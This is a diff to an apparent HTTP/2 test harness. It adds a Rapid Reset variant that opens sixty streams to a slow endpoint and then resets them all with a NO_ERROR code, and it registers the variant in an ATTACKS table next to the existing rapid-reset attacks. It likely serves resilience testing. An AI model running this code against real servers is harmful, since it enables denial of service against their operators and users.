@@ -7,7 +7,10 @@ from hyperframe.frame import RstStreamFrame
 
 from peer import Peer, request
 
+NO_ERROR = 0
 CANCEL = 8
+# Resets in a second that are too many only for what they are of: requests that nobody has answered.
+GIVEN_UP = 60
 
 
 def rapid_reset(target, pace):
@@ -32,4 +35,18 @@ def rapid_reset_batched(target, pace):
     return peer
 
 
-ATTACKS = {"rapid-reset": rapid_reset, "rapid-reset-batched": rapid_reset_batched}
+def reset_without_error(target, pace):
+    """Sixty requests, a moment to reach the origin, then a reset of each that claims there is no error."""
+    peer = Peer(target)
+    streams = [peer.open(request(b"/attack/slow")) for _ in range(GIVEN_UP)]
+    peer.pump(0.1)
+    peer.send(*(RstStreamFrame(stream, error_code=NO_ERROR) for stream in streams))
+    peer.pump(pace.left(), until=lambda: peer.over)
+    return peer
+
+
+ATTACKS = {
+    "rapid-reset": rapid_reset,
+    "rapid-reset-batched": rapid_reset_batched,
+    "rapid-reset-no-error": reset_without_error,
+}
